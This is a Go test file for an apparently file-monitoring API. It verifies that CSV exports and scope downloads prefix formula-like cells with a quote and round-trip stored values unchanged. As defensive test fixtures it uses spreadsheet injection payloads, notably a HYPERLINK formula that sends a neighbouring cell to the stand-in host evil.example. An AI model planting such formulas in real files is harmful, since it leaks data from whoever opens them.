package api_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"slices"
	"testing"

	"github.com/telltale-dev/telltale/client"
	"github.com/telltale-dev/telltale/internal/csvsafe"
	"github.com/telltale-dev/telltale/internal/event"
)

// formula is a file name a monitored person can choose: opened in a spreadsheet without
// neutralising, it sends the neighbouring cell to evil.example.
const formula = `=HYPERLINK("http://evil.example/?leak="&A1,"Q3.xlsx")`

// readCSV parses a CSV body and fails on any cell a spreadsheet would run as a formula.
func readCSV(t *testing.T, body []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("csv: %v\n%s", err, body)
	}
	for i, r := range rows {
		for j, c := range r {
			if csvsafe.Risky(c) {
				t.Errorf("row %d column %d is a live formula: %q", i, j, c)
			}
		}
	}
	return rows
}

// TestExportNeutralisesFormulas (issue 12, defect 3): text cells of the CSV export that start with
// = + - @, a tab or a carriage return are written with a quote in front; JSON lines keep the value.
func TestExportNeutralisesFormulas(t *testing.T) {
	f := newFixture(t)
	evs := seedEvents(t, f, 1, 5)
	e := evs[0]
	e.Event.VendorIDs = []string{"formula-1"}
	e.File.Name, e.Email.Subject, e.User.Email = formula, "+1 555 0100", "@attacker"
	e.Sharing.SharedWith = []string{"-x@evil.example"}
	if _, err := f.app.Store.InsertEvents(context.Background(), []*event.FileEvent{&e}, false); err != nil {
		t.Fatal(err)
	}
	code, body := f.do(t, f.admin, "POST", "/api/v1/file-events/export", client.ExportRequest{Query: fmt.Sprintf("id:%d", e.Event.ID)})
	if code != 200 {
		t.Fatalf("export: %d %s", code, body)
	}
	rows := readCSV(t, body)
	if len(rows) != 2 {
		t.Fatalf("export: %d rows, want the header and one event:\n%s", len(rows), body)
	}
	col := func(name string) string { return rows[1][slices.Index(rows[0], name)] }
	for name, want := range map[string]string{"file_name": "'" + formula, "subject": "'+1 555 0100", "actor": "'@attacker", "shared_with": "'-x@evil.example"} {
		if got := col(name); got != want {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
	}
}

// TestScopeDownloadNeutralisesFormulas (issue 12, defect 3): the scope CSV (which the console's
// scope.csv streams) neutralises group names that look like formulas, and uploading the download
// again gives the same scope.
func TestScopeDownloadNeutralisesFormulas(t *testing.T) {
	f := newFixture(t)
	up := "Group Name\n-Contractors\n\"" + `=HYPERLINK(""http://evil.example/"",""x"")` + "\"\n@Team\nSales\n"
	code, body := f.do(t, f.admin, "POST", "/api/v1/connections", client.NewConnection{Name: "Box formulas", Service: "box", TenantID: "77",
		Settings: map[string]string{"admin_email": "a@corp.example", "client_id": "c"}, Credentials: map[string]string{"client_secret": "s"},
		Scope: &client.ScopeInput{Kind: "groups", CSV: up}})
	if code != 201 {
		t.Fatalf("create: %d %s", code, body)
	}
	id := string(bytes.TrimSpace(bytes.Split(bytes.Split(body, []byte(`"id": "`))[1], []byte(`"`))[0]))
	code, first := f.do(t, f.admin, "GET", "/api/v1/connections/"+id+"/scope", nil)
	if code != 200 {
		t.Fatalf("download: %d %s", code, first)
	}
	rows := readCSV(t, first)
	want := [][]string{{"Group Name"}, {"'-Contractors"}, {`'=HYPERLINK("http://evil.example/","x")`}, {"'@Team"}, {"Sales"}}
	if !slices.EqualFunc(rows, want, slices.Equal) {
		t.Errorf("download:\n got %q\nwant %q", rows, want)
	}
	// Round trip: the stored names are the vendor's, without the quote.
	c, err := f.app.Store.ListScope(context.Background(), mustInt(t, id))
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range c {
		names = append(names, e.Value)
	}
	if !slices.Equal(names, []string{"-Contractors", `=HYPERLINK("http://evil.example/","x")`, "@Team", "Sales"}) {
		t.Errorf("stored scope: %q", names)
	}
	if _, err := f.app.Connections.Apply(context.Background(), mustInt(t, id), "discovered", "system", "drives found"); err != nil {
		t.Fatal(err)
	}
	if code, body := f.do(t, f.admin, "POST", "/api/v1/connections/"+id+"/deauthorize", nil); code != 200 {
		t.Fatalf("deauthorize: %d %s", code, body)
	}
	f.app.Runner.RunDue(context.Background())
	if code, body := f.do(t, f.admin, "PUT", "/api/v1/connections/"+id+"/scope?kind=groups", string(first)); code != 200 {
		t.Fatalf("upload the download again: %d %s", code, body)
	}
	if _, again := f.do(t, f.admin, "GET", "/api/v1/connections/"+id+"/scope", nil); !bytes.Equal(again, first) {
		t.Errorf("scope changed by uploading its own download:\n%s\nthen\n%s", first, again)
	}
}
